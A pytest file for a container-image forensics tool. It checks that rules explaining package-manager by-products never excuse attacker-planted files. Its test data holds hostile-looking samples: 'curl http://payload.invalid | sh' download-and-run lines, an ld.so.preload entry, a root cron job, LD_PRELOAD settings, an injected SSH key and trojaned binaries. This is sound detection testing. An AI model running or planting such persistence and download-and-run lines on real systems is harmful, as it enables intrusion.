"""The written list of by-products: what each rule explains, and above all what it never does."""

from __future__ import annotations

import base64
import hashlib
import re
import struct

import pytest

from forensics.inventory import catalog
from forensics.model.sbom import FileStatus, FileVerdict
from forensics.sbom import BY_PRODUCTS, reconcile
from tests.layered_images import Content, Link, Program, facts_of, open_image_of, sums

ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
SCRIPT = b"#!/bin/sh\ncurl http://payload.invalid | sh\n"
PY = "print('owned')\n"
PEM = "-----BEGIN CERTIFICATE-----\nAAAA\nBBBB\n-----END CERTIFICATE-----\n"
FOREIGN_PEM = "-----BEGIN CERTIFICATE-----\nEEEE\n-----END CERTIFICATE-----\n"

INSTALLED = "Package: base\nStatus: install ok installed\nArchitecture: all\nVersion: {}\n"
OWNED = {
    "/bin/busybox": ELF.decode("latin-1"),
    "/usr/bin/mawk": "mawk",
    "/usr/share/man/man1/mawk.1.gz": "gone from the image",
    "/usr/share/ca-certificates/mozilla/CA.crt": PEM,
    "/usr/lib/python3/mod.py": PY,
    "/usr/lib/jvm/java/lib/server/libjvm.so": "jvm",
    "/usr/share/base-files/profile": "# profile\n",
    "/usr/share/base-files/tool": SCRIPT.decode(),
    "/lib/systemd/system/ssh.service": "[Unit]\n",
    "/usr/share/zoneinfo/Etc/UTC": "TZif",
    "/etc/init.d/ssh": "script",
    "/usr/share/fontconfig/conf.avail/10.conf": "<x/>",
    "/usr/share/dict/american-english": "a\n",
}
NOT_IN_THE_IMAGE = {"/usr/share/man/man1/mawk.1.gz"}


def distribution() -> dict[str, Content]:
    """A Debian with one package that owns everything above, and an apk database beside it."""
    sums_of = "".join(f"{sums('md5', text)}  {path[1:]}\n" for path, text in OWNED.items())
    files: dict[str, Content] = {
        "/var/lib/dpkg/status": INSTALLED.format(1),
        "/var/lib/dpkg/info/base.list": "".join(f"{path}\n" for path in OWNED),
        "/var/lib/dpkg/info/base.md5sums": sums_of,
    }
    files.update({path: text for path, text in OWNED.items() if path not in NOT_IN_THE_IMAGE})
    return files


def judge(extra: dict[str, Content], path: str) -> FileVerdict:
    """The verdict over `path` when `extra` lies in a second layer over the distribution."""
    with open_image_of(distribution(), extra) as view:
        inventory = catalog(view)
        version = view.visible(path)
        assert version is not None
        result = reconcile(view, inventory, (), facts_of(view, {}))
        return result.verdicts[version.key]


def bytecode(size: int, flags: int = 0) -> bytes:
    return b"\xa7\r\r\n" + struct.pack("<III", flags, 1_700_000_000, size) + b"code"


ALTERNATIVE: dict[str, Content] = {
    "/etc/alternatives/awk": Link("/usr/bin/mawk"),
    "/usr/bin/awk": Link("/etc/alternatives/awk"),
}
UCF: dict[str, Content] = {
    "/var/lib/ucf/hashfile": f"{sums('md5', 'x')}  /etc/ssh/sshd_config\n",
    "/etc/ssh/sshd_config": "edited",
}
POLICY = Program(b"#!/bin/sh\n\n# no services in a build\nexit 101\n")

EXPLAINED: list[tuple[str, dict[str, Content], str]] = [
    ("dpkg-database", {"/var/lib/dpkg/triggers/File": "x"}, "/var/lib/dpkg/triggers/File"),
    ("dpkg-database", {"/var/lib/dpkg/info/base.symbols": "x"}, "/var/lib/dpkg/info/base.symbols"),
    (
        "dpkg-maintainer-script",
        {"/var/lib/dpkg/info/base.postinst": Program(SCRIPT)},
        "/var/lib/dpkg/info/base.postinst",
    ),
    ("apk-database", {"/lib/apk/db/triggers": "x"}, "/lib/apk/db/triggers"),
    (
        "apt-state",
        {"/var/lib/apt/lists/deb.debian.org_x_Packages": "x"},
        "/var/lib/apt/lists/deb.debian.org_x_Packages",
    ),
    ("apt-cache", {"/var/cache/apt/pkgcache.bin": "x"}, "/var/cache/apt/pkgcache.bin"),
    (
        "downloaded-package",
        {"/var/cache/apt/archives/x.deb": b"!<arch>\ndebian-binary   "},
        "/var/cache/apt/archives/x.deb",
    ),
    (
        "apk-cache",
        {"/var/cache/apk/APKINDEX.00ff.tar.gz": b"\x1f\x8b"},
        "/var/cache/apk/APKINDEX.00ff.tar.gz",
    ),
    ("debconf-database", {"/var/cache/debconf/config.dat-old": "x"}, "/var/cache/debconf/config.dat-old"),
    ("alternatives", ALTERNATIVE, "/etc/alternatives/awk"),
    ("alternatives", ALTERNATIVE, "/usr/bin/awk"),
    (
        "alternatives",
        {"/etc/alternatives/awk.1.gz": Link("/usr/share/man/man1/mawk.1.gz")},
        "/etc/alternatives/awk.1.gz",
    ),
    ("busybox-applet", {"/bin/ls": Link("/bin/busybox")}, "/bin/ls"),
    ("busybox-applet", {"/bin/ls": Link("busybox")}, "/bin/ls"),
    ("busybox-applet", {"/sbin/init": Link("../bin/busybox")}, "/sbin/init"),
    ("busybox-applet", {"/bin/cp": Program(ELF)}, "/bin/cp"),
    ("merged-usr", {"/lib64": Link("usr/lib64"), "/usr/lib64/x": "x"}, "/lib64"),
    ("compatibility-link", {"/var/run": Link("/run")}, "/var/run"),
    ("compatibility-link", {"/usr/local/man": Link("share/man")}, "/usr/local/man"),
    ("mtab", {"/etc/mtab": Link("../proc/self/mounts")}, "/etc/mtab"),
    ("device-link", {"/dev/fd": Link("/proc/self/fd")}, "/dev/fd"),
    ("os-release", {"/etc/localtime": Link("/usr/share/zoneinfo/Etc/UTC")}, "/etc/localtime"),
    ("init-link", {"/etc/rc2.d/S01ssh": Link("../init.d/ssh")}, "/etc/rc2.d/S01ssh"),
    (
        "unit-link",
        {"/etc/systemd/system/multi-user.target.wants/ssh.service": Link("/lib/systemd/system/ssh.service")},
        "/etc/systemd/system/multi-user.target.wants/ssh.service",
    ),
    ("unit-link", {"/etc/systemd/system/x.service": Link("/dev/null")}, "/etc/systemd/system/x.service"),
    (
        "enabled-configuration",
        {"/etc/fonts/conf.d/10.conf": Link("/usr/share/fontconfig/conf.avail/10.conf")},
        "/etc/fonts/conf.d/10.conf",
    ),
    (
        "enabled-configuration",
        {
            "/etc/php/8.2/cli/conf.d/x.ini": Link("/etc/php/8.2/mods-available/x.ini"),
            "/etc/php/8.2/mods-available/x.ini": "<x/>",
        },
        "/etc/php/8.2/cli/conf.d/x.ini",
    ),
    (
        "dictionary-link",
        {"/etc/dictionaries-common/words": Link("/usr/share/dict/american-english")},
        "/etc/dictionaries-common/words",
    ),
    ("runit-service", {"/etc/service/ssh": Link("/etc/sv/ssh")}, "/etc/service/ssh"),
    (
        "certificate-link",
        {
            "/etc/ssl/certs/CA.pem": Link("/usr/share/ca-certificates/mozilla/CA.crt"),
            "/etc/ssl/certs/0a1b2c3d.0": Link("CA.pem"),
        },
        "/etc/ssl/certs/0a1b2c3d.0",
    ),
    (
        "certificate-bundle",
        {"/etc/ssl/certs/ca-certificates.crt": PEM + PEM},
        "/etc/ssl/certs/ca-certificates.crt",
    ),
    ("java-trust-store", {"/etc/ssl/certs/java/cacerts": b"\xfe\xed\xfe\xed"}, "/etc/ssl/certs/java/cacerts"),
    ("accounts", {"/etc/shadow-": "root:*:"}, "/etc/shadow-"),
    ("host-identity", {"/etc/resolv.conf": Program(b"nameserver 192.0.2.1\n")}, "/etc/resolv.conf"),
    ("empty-settings", {"/etc/environment": ""}, "/etc/environment"),
    ("release-files", {"/etc/alpine-release": "3.19.1\n"}, "/etc/alpine-release"),
    ("locale-choice", {"/etc/default/locale": "LANG=C\n"}, "/etc/default/locale"),
    ("apt-sources", {"/etc/apt/sources.list": "deb x\n"}, "/etc/apt/sources.list"),
    ("container-settings", {"/etc/apt/apt.conf.d/docker-clean": "x"}, "/etc/apt/apt.conf.d/docker-clean"),
    ("policy-rc.d", {"/usr/sbin/policy-rc.d": POLICY}, "/usr/sbin/policy-rc.d"),
    ("pam-profiles", {"/etc/pam.d/common-auth": "auth required pam_unix.so\n"}, "/etc/pam.d/common-auth"),
    ("ucf-configuration", UCF, "/etc/ssh/sshd_config"),
    ("ucf-state", UCF, "/var/lib/ucf/hashfile"),
    ("copied-template", {"/etc/profile": "# profile\n"}, "/etc/profile"),
    ("ssh-host-key", {"/etc/ssh/ssh_host_rsa_key": "-----BEGIN OPENSSH"}, "/etc/ssh/ssh_host_rsa_key"),
    (
        "snakeoil-certificate",
        {"/etc/ssl/certs/ssl-cert-snakeoil.pem": "-----BEGIN CERTIFICATE"},
        "/etc/ssl/certs/ssl-cert-snakeoil.pem",
    ),
    (
        "snakeoil-certificate",
        {"/etc/ssl/certs/0a1b2c3d.0": Link("ssl-cert-snakeoil.pem")},
        "/etc/ssl/certs/0a1b2c3d.0",
    ),
    ("ld.so-cache", {"/etc/ld.so.cache": "glibc-ld.so.cache1.1"}, "/etc/ld.so.cache"),
    (
        "ldconfig-cache",
        {"/var/cache/ldconfig/aux-cache": "glibc-ld.so.auxcache"},
        "/var/cache/ldconfig/aux-cache",
    ),
    (
        "python-bytecode",
        {"/usr/lib/python3/__pycache__/mod.cpython-311.pyc": bytecode(len(PY))},
        "/usr/lib/python3/__pycache__/mod.cpython-311.pyc",
    ),
    (
        "python-bytecode",
        {"/usr/lib/python3/__pycache__/mod.cpython-311.opt-1.pyc": bytecode(7, flags=1)},
        "/usr/lib/python3/__pycache__/mod.cpython-311.opt-1.pyc",
    ),
    ("python-bytecode", {"/usr/lib/python3/mod.pyc": b"\x03\xf3\r\n1234code"}, "/usr/lib/python3/mod.pyc"),
    ("python-state", {"/var/lib/python/python3.11_installed": ""}, "/var/lib/python/python3.11_installed"),
    ("manual-index", {"/var/cache/man/de/index.db": "x"}, "/var/cache/man/de/index.db"),
    ("info-index", {"/usr/share/info/dir": "x"}, "/usr/share/info/dir"),
    ("font-cache", {"/var/cache/fontconfig/0f-le64.cache-8": "x"}, "/var/cache/fontconfig/0f-le64.cache-8"),
    ("mime-cache", {"/usr/share/mime/mime.cache": "x"}, "/usr/share/mime/mime.cache"),
    (
        "icon-cache",
        {"/usr/share/icons/hicolor/icon-theme.cache": "x"},
        "/usr/share/icons/hicolor/icon-theme.cache",
    ),
    (
        "module-cache",
        {"/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.cache": "x"},
        "/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.cache",
    ),
    ("locale-data", {"/usr/lib/locale/locale-archive": "x"}, "/usr/lib/locale/locale-archive"),
    (
        "java-class-archive",
        {"/usr/lib/jvm/java/lib/server/classes.jsa": "x"},
        "/usr/lib/jvm/java/lib/server/classes.jsa",
    ),
    (
        "java-preferences",
        {"/etc/.java/.systemPrefs/.system.lock": ""},
        "/etc/.java/.systemPrefs/.system.lock",
    ),
    ("hardware-database", {"/lib/udev/hwdb.bin": "KSLPHHRH"}, "/lib/udev/hwdb.bin"),
    (
        "systemd-state",
        {"/var/lib/systemd/deb-systemd-helper-enabled/ssh.service.dsh-also": "x"},
        "/var/lib/systemd/deb-systemd-helper-enabled/ssh.service.dsh-also",
    ),
    ("init-order", {"/etc/init.d/.depend.boot": "x"}, "/etc/init.d/.depend.boot"),
    ("dictionary-state", {"/var/lib/aspell/en-common.rws": "x"}, "/var/lib/aspell/en-common.rws"),
    ("xml-catalog", {"/etc/xml/catalog": "x"}, "/etc/xml/catalog"),
    ("installation-log", {"/var/log/apt/history.log": "x"}, "/var/log/apt/history.log"),
    ("login-records", {"/var/log/lastlog": bytes(292)}, "/var/log/lastlog"),
    ("empty-state", {"/var/log/nginx/access.log": ""}, "/var/log/nginx/access.log"),
]


@pytest.mark.parametrize(
    ("rule", "extra", "path"), EXPLAINED, ids=[f"{case[0]}:{case[2]}" for case in EXPLAINED]
)
def test_what_each_rule_explains(rule: str, extra: dict[str, Content], path: str) -> None:
    verdict = judge(extra, path)
    assert (verdict.status, verdict.rule) == (FileStatus.GENERATED, rule)


def test_every_rule_has_a_case_a_reason_and_a_sound_pattern() -> None:
    assert {rule.id for rule in BY_PRODUCTS} == {case[0] for case in EXPLAINED}
    for rule in BY_PRODUCTS:
        assert rule.reason
        assert re.compile(rule.paths).fullmatch("") is None
        assert rule.paths.startswith(("/", "(?:/")), f"{rule.id} is not anchored at the root"


@pytest.mark.parametrize(
    "content", [ELF + b"evil", SCRIPT, b"MZ\x90", Program(b"plain text that sh would run")]
)
@pytest.mark.parametrize(
    "path",
    sorted(
        {case[2] for case in EXPLAINED if not isinstance(case[1][case[2]], Link)}
        | {"/var/log/x", "/var/lib/x"}
    ),
)
def test_no_place_excuses_a_program_of_an_attacker(path: str, content: Content) -> None:
    """A program put over each by-product there is: nothing about its place makes it one."""
    bearable = {"/var/lib/dpkg/info/base.postinst"} if content == SCRIPT else set()
    if isinstance(content, Program):
        bearable = {case[2] for case in EXPLAINED if case[0] in ("accounts", "host-identity")}
    verdict = judge({path: content}, path)
    if path in bearable:
        assert verdict.status is FileStatus.GENERATED
    else:
        assert verdict.status in (FileStatus.UNOWNED, FileStatus.ALTERED)


@pytest.mark.parametrize(
    "path", sorted({case[2] for case in EXPLAINED if isinstance(case[1][case[2]], Link)})
)
def test_no_link_is_excused_that_leads_to_an_attackers_program(path: str) -> None:
    extra: dict[str, Content] = {path: Link("/opt/evil"), "/opt/evil": Program(ELF + b"evil")}
    assert judge(extra, path).status is FileStatus.UNOWNED


def test_setting_the_user_id_is_never_a_by_product() -> None:
    for path in ("/etc/hosts", "/var/lib/dpkg/status-old", "/etc/passwd-"):
        assert judge({path: Program(b"text", mode=0o4644)}, path).status is FileStatus.UNOWNED


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("/var/lib/dpkg/info/base.postinst", ELF),
        ("/var/lib/dpkg/info/unknown.postinst", SCRIPT),
        ("/var/lib/dpkg/info/base.sh", SCRIPT),
        ("/var/lib/dpkg/evil", b"data"),
        ("/usr/sbin/policy-rc.d", b"#!/bin/sh\ncurl x|sh\nexit 101\n"),
        ("/usr/sbin/policy-rc.d", b"#!/bin/sh\nexit 101; id\n"),
        ("/etc/ld.so.cache", b"other"),
        ("/etc/ld.so.preload", b"/usr/lib/evil.so\n"),
        ("/etc/cron.d/job", b"* * * * * root id\n"),
        ("/etc/environment", b"LD_PRELOAD=/x\n"),
        ("/etc/profile", b"# profile\ncurl x|sh\n"),
        ("/root/.ssh/authorized_keys", b"ssh-ed25519 AAAA\n"),
        ("/etc/ssl/certs/ca-certificates.crt", (PEM + FOREIGN_PEM).encode()),
        ("/etc/ssl/certs/ca-certificates.crt", b"no certificate at all"),
        ("/var/cache/anything/x", b"data"),
        ("/usr/lib/jvm/other/lib/server/classes.jsa", b"x"),
        ("/usr/bin/tool", SCRIPT),
        ("/etc/apk/keys/evil.rsa.pub", b"-----BEGIN PUBLIC KEY-----"),
    ],
)
def test_what_no_rule_explains(path: str, content: bytes) -> None:
    assert judge({path: content}, path).status is FileStatus.UNOWNED


def test_a_copied_template_is_no_program_even_if_a_package_owns_the_same_one() -> None:
    assert judge({"/etc/profile.d/x.sh": Program(SCRIPT)}, "/etc/profile.d/x.sh").status is FileStatus.UNOWNED
    assert judge({"/tmp/.x": Program(ELF)}, "/tmp/.x").status is FileStatus.UNOWNED


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("__pycache__/mod.cpython-311.pyc", bytecode(len(PY) + 1)),
        ("__pycache__/other.cpython-311.pyc", bytecode(len(PY))),
        ("__pycache__/mod.cpython-311.pyc", b"not bytecode at all"),
        ("__pycache__/mod.cpython-311.pyc", b""),
        ("other.pyc", b"\x03\xf3\r\n1234code"),
    ],
)
def test_bytecode_without_its_owned_source(name: str, content: bytes) -> None:
    path = f"/usr/lib/python3/{name}"
    assert judge({path: content}, path).status is FileStatus.UNOWNED


def test_bytecode_of_a_source_that_was_altered() -> None:
    path = "/usr/lib/python3/__pycache__/mod.cpython-311.pyc"
    evil = "import os\n" + "#" * (len(PY) - 10)
    verdict = judge({"/usr/lib/python3/mod.py": evil, path: bytecode(len(evil))}, path)
    assert verdict.status is FileStatus.UNOWNED


@pytest.mark.parametrize(
    "extra",
    [
        {"/usr/bin/awk": Link("/etc/alternatives/awk"), "/etc/alternatives/awk": Link("/tmp/evil")},
        {"/usr/bin/awk": Link("/etc/alternatives/awk"), "/etc/alternatives/awk": Program(ELF)},
        {
            "/usr/bin/awk": Link("/etc/alternatives/awk"),
            "/etc/alternatives/awk": Link("/etc/alternatives/awk"),
        },
        {
            "/usr/bin/awk": Link("/etc/alternatives/awk"),
            "/etc/alternatives/awk": Link("/usr/bin/mawk"),
            "/usr/bin/mawk": "evil",
        },
        {"/usr/bin/awk": Link("/etc/alternatives/../../tmp/evil"), "/tmp/evil": Program(ELF)},
        {"/usr/bin/awk": Link("/usr/bin/mawk")},
    ],
)
def test_alternatives_that_lead_astray(extra: dict[str, Content]) -> None:
    assert judge(extra, "/usr/bin/awk").status is FileStatus.UNOWNED


@pytest.mark.parametrize(
    "extra",
    [
        {"/bin/ls": Program(ELF + b"!")},
        {"/bin/ls": Link("/tmp/busybox"), "/tmp/busybox": Program(ELF + b"!")},
        {"/bin/ls": Link("/bin/busybox"), "/bin/busybox": Program(ELF + b"trojan")},
        {"/bin/ls": Link("/bin/nothing")},
        {"/bin/ls": Link("/usr/bin/mawk")},
    ],
)
def test_applets_of_a_busybox_that_nobody_owns(extra: dict[str, Content]) -> None:
    assert judge(extra, "/bin/ls").status is FileStatus.UNOWNED


def test_a_hard_link_to_an_owned_busybox_is_an_applet_and_one_to_a_trojan_is_not() -> None:
    good: dict[str, Content] = {"/bin/busybox": Program(ELF), "/bin/ls": Link("/bin/busybox", hard=True)}
    assert judge(good, "/bin/ls").rule == "busybox-applet"
    bad: dict[str, Content] = {"/bin/x": Program(ELF + b"!"), "/bin/ls": Link("/bin/x", hard=True)}
    assert judge(bad, "/bin/ls").status is FileStatus.UNOWNED


@pytest.mark.parametrize("name", ["lib64", "bin", "usr/lib"])
def test_a_system_directory_that_was_led_elsewhere(name: str) -> None:
    extra: dict[str, Content] = {f"/{name}": Link("/opt/evil"), "/opt/evil/ld.so": "x"}
    assert judge(extra, f"/{name}").status is FileStatus.UNOWNED


def test_a_listed_placeholder_that_a_maintainer_script_filled_is_explained_and_a_program_is_not() -> None:
    listing: dict[str, Content] = {
        "/var/lib/dpkg/info/base.list": "/var/lib/aspell/en.rws\n/usr/bin/mawk\n",
        "/var/lib/dpkg/status": INSTALLED.format(2),
    }
    path = "/var/lib/aspell/en.rws"
    filled = judge({**listing, path: "words"}, path)
    assert (filled.status, filled.rule, filled.claimed_by) == (
        FileStatus.GENERATED,
        "dictionary-state",
        "deb/base@2/all",
    )
    assert judge({**listing, path: Program(ELF)}, path).status is FileStatus.ALTERED


def test_apk_images_are_judged_the_same_way() -> None:
    digest = base64.b64encode(hashlib.sha1(ELF).digest()).decode()
    database = f"P:busybox\nV:1-r0\nF:bin\nR:busybox\na:0:0:755\nZ:Q1{digest}\n\n"
    layer: dict[str, Content] = {
        "/lib/apk/db/installed": database,
        "/bin/busybox": Program(ELF),
        "/bin/ls": Link("/bin/busybox"),
        "/bin/evil": Program(ELF + b"!"),
        "/etc/apk/world": "busybox\n",
    }
    with open_image_of(layer) as view:
        result = reconcile(view, catalog(view), (), facts_of(view, {}))
        told = {
            version.path: result.verdicts[version.key].rule or result.verdicts[version.key].status.value
            for version in view.all_versions()
        }
    assert told == {
        "/bin/busybox": "package",
        "/bin/evil": "unowned",
        "/bin/ls": "busybox-applet",
        "/etc/apk/world": "apk-database",
        "/lib/apk/db/installed": "apk-database",
    }
